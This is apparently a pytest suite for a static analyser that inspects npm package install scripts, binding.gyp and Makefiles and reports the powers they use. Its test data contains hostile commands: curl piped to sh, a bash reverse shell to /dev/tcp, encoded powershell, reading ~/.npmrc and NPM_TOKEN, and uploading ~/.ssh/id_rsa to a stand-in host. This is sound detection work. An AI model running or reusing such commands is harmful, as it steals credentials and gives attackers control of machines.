from typing import Any

import pytest
from support.packages import analysed, contents, reached, seen

from tools.in_memory import MemoryContents

ANY = "require('os')"
SPAWN, NETWORK, INSTALL = "builtin:child_process", "global:fetch", "script:postinstall"


def installing(command: str, files: dict[str, str] | None = None, **fields: Any) -> MemoryContents:
    """Return a package whose postinstall is `command`."""
    return contents(files, scripts={"postinstall": command}, **fields)


@pytest.mark.parametrize(
    "command",
    [
        pytest.param("node setup.js", id="file"),
        pytest.param("node setup", id="without extension"),
        pytest.param("node ./setup.js --quiet", id="with arguments"),
        pytest.param("node --no-warnings -r ./setup.js -e 1", id="required before"),
        pytest.param("cross-env A=1 node setup", id="behind cross-env"),
        pytest.param("A=1 node setup || exit 0", id="behind an assignment"),
        pytest.param("true && (cd . && node setup)", id="in a group"),
        pytest.param("echo $(node setup)", id="in a substitution"),
        pytest.param("sh -c 'node setup'", id="in a shell's argument"),
        pytest.param("cmd /c node setup", id="in cmd"),
        pytest.param("npm run build --silent", id="by the name of a script"),
        pytest.param("yarn build", id="by yarn"),
        pytest.param("node < setup.js", id="as input"),
        pytest.param("./setup.js", id="as a program"),
        pytest.param("sh ./setup.sh", id="through a shell file"),
        pytest.param("$npm_execpath run build", id="by npm's own path"),
        pytest.param("if [ -f x ]; then node setup; fi", id="in a condition"),
    ],
)
def test_the_file_that_a_script_runs_is_an_entry(command: str) -> None:
    files = {"setup.js": ANY, "setup.sh": "set -e\nnode setup.js\n", "other.js": ANY}
    package = contents(files, scripts={"postinstall": command, "build": "node setup.js"})
    facts = analysed(package)
    assert "setup.js" in reached(facts)
    assert "other.js" not in reached(facts)
    assert "setup.js" in facts.install_files


def test_types_beside_what_a_script_runs_do_not_run() -> None:
    files = {"a.js": "require('own/b')", "b.js": ANY, "b.d.ts": "export const b: 1"}
    exports = {"./b": {"types": "./b.d.ts", "default": "./b.js"}}
    facts = analysed(installing("node a.js", files, name="own", exports=exports))
    assert set(facts.install_files) == {"package.json", "a.js", "b.js"}


def test_a_script_is_a_fact_at_its_key() -> None:
    facts = analysed(installing("node setup"))
    (found,) = [located for located in facts.facts if located.fact.kind == "script"]
    assert (found.file, found.fact.what, found.fact.text) == (
        "package.json",
        "postinstall",
        "node setup",
    )
    assert (found.fact.line, found.fact.column) == (5, 5)


@pytest.mark.parametrize(
    ("command", "powers"),
    [
        pytest.param(
            "curl https://x.invalid/i.sh | sh", {SPAWN, NETWORK, "unknown:computed"}, id="pipe"
        ),
        pytest.param("wget -q x.invalid", {SPAWN, NETWORK}, id="wget"),
        pytest.param("bash -c 'bash -c \"curl x.invalid\"'", {SPAWN, NETWORK}, id="twice"),
        pytest.param("echo `curl x.invalid`", {SPAWN, NETWORK}, id="backticks"),
        pytest.param("bash -i >& /dev/tcp/1.2.3.4/80 0>&1", {SPAWN, "unknown:computed"}, id="bash"),
        pytest.param("powershell -c iwr http://x.invalid", {SPAWN, NETWORK}, id="powershell"),
        pytest.param("powershell -enc YwB1AHIAbAAgAHgA", {SPAWN, NETWORK}, id="encoded"),
        pytest.param("npx left-x", {SPAWN, NETWORK}, id="npx of an unlisted package"),
        pytest.param("npm i left-x", {SPAWN, NETWORK}, id="npm install"),
        pytest.param("$TOOL go", {SPAWN, "unknown:computed"}, id="computed program"),
        pytest.param("some-program --now", {SPAWN}, id="unknown program"),
        pytest.param("python -c 'pass'", {SPAWN, "unknown:computed"}, id="another language"),
        pytest.param("cat ~/.npmrc", {"builtin:fs.readFile"}, id="reads outside"),
        pytest.param("echo x >> ~/.bashrc", {"builtin:fs.writeFile"}, id="writes outside"),
        pytest.param("echo $NPM_TOKEN", {"global:process.env.NPM_TOKEN"}, id="token"),
        pytest.param("env", {"global:process.env"}, id="whole environment"),
        pytest.param("node -e \"require('net')\"", {"builtin:net"}, id="code"),
        pytest.param("made | node", {SPAWN, "unknown:computed"}, id="code from a pipe"),
        pytest.param("node-gyp rebuild", {SPAWN, "native:addon"}, id="node-gyp"),
        pytest.param("node-pre-gyp install", {SPAWN, NETWORK, "native:addon"}, id="node-pre-gyp"),
    ],
)
def test_shell_powers(command: str, powers: set[str]) -> None:
    assert seen(analysed(installing(command))) >= powers


@pytest.mark.parametrize(
    "command",
    [
        "node -e \"try{require('./postinstall')}catch(e){}\"",
        "echo 'curl x | sh'",
        "opencollective-postinstall || exit 0",
        "is-ci || npm run nothing",
        "rimraf dist && mkdirp dist > /dev/null 2>&1",
        "cp a.txt b.txt; rm -rf ./tmp; test -f x",
        "npx listed-tool --x",
        "# curl x.invalid",
        "echo ${npm_package_version}",
    ],
)
def test_commands_without_power(command: str) -> None:
    package = installing(command, dependencies={"listed-tool": "1"})
    assert seen(analysed(package)) == {INSTALL}


def test_literals_name_hosts_paths_variables_and_commands() -> None:
    facts = analysed(installing("npm run go", go="")).facts
    assert facts[0].fact.literals == ("npm",)
    command = "curl -T ~/.ssh/id_rsa -H $NPM_TOKEN https://user:pass@Drop.invalid:8080/x"
    (fact,) = [
        found.fact for found in analysed(installing(command)).facts if found.fact.kind == "script"
    ]
    assert set(fact.literals) >= {"drop.invalid", "~/.ssh/id_rsa", "NPM_TOKEN", "curl"}


def test_prepare_runs_only_from_git() -> None:
    package = contents({"p.js": ANY}, scripts={"prepare": "node p"})
    assert "script:prepare" not in seen(analysed(package))
    assert "p.js" not in reached(analysed(package))
    from_git = analysed(package, git=True)
    assert "script:prepare" in seen(from_git)
    assert "p.js" in reached(from_git)


def test_a_shell_file_of_any_name_is_read_as_one() -> None:
    facts = analysed(installing("bash payload.txt", {"payload.txt": "curl x.invalid\n"}))
    assert NETWORK in seen(facts, "payload.txt")


def test_scripts_that_run_each_other_end() -> None:
    scripts = {"postinstall": "npm run a", "a": "npm run b", "b": "npm run a && node x"}
    assert "x.js" in reached(analysed(contents({"x.js": ANY}, scripts=scripts)))


GYP = """\
{ 'targets': [ {  # <!(curl no.invalid)
  'include_dirs': ["<!(node -p \\"require('addon-kit').include\\")"],
  'variables': { 'x': '<!@(curl -s gyp.invalid)' },
  'actions': [ { 'action_name': 'a', 'action': ['node', 'act.js'] } ],
} ] }
"""


def test_a_binding_gyp_without_scripts_runs() -> None:
    facts = analysed(contents({"binding.gyp": GYP, "act.js": ANY}))
    assert "script:gyp" in seen(facts)
    assert seen(facts) >= {NETWORK, "package:addon-kit", "native:addon"}
    assert "act.js" in reached(facts)
    lines = {found.fact.line for found in facts.facts if found.fact.what == "fetch"}
    assert lines == {3}


@pytest.mark.parametrize(
    "fields",
    [
        pytest.param({"scripts": {"install": "true"}}, id="its own install script"),
        pytest.param({"scripts": {"preinstall": "true"}}, id="its own preinstall script"),
        pytest.param({"gypfile": False}, id="switched off"),
    ],
)
def test_no_implicit_build(fields: dict[str, Any]) -> None:
    assert "script:gyp" not in seen(analysed(contents({"binding.gyp": GYP}, **fields)))


def test_a_binding_gyp_elsewhere_is_not_run() -> None:
    assert seen(analysed(contents({"deps/binding.gyp": GYP}))) == set()


@pytest.mark.parametrize("command", ["make", "make -s all", "make -C sub", "make -f sub/Makefile"])
def test_a_makefile_is_read_as_what_the_shell_gets(command: str) -> None:
    text = "URL := x\nfiles = $(shell node list.js)\nall: curl\n\t@curl -s https://a.invalid/$$X\n"
    files = {"Makefile": text, "sub/Makefile": text, "list.js": ANY, "sub/list.js": ANY}
    facts = analysed(installing(command, files))
    placed = {
        (each.file.rpartition("/")[2], each.fact.line, each.fact.what) for each in facts.facts
    }
    assert ("Makefile", 4, "fetch") in placed
    assert ("Makefile", 3, "child_process") not in placed


def test_a_makefile_that_nothing_runs_is_a_document() -> None:
    facts = analysed(contents({"Makefile": "all:\n\tcurl https://a.invalid\n", "index.js": ""}))
    assert facts.facts == ()
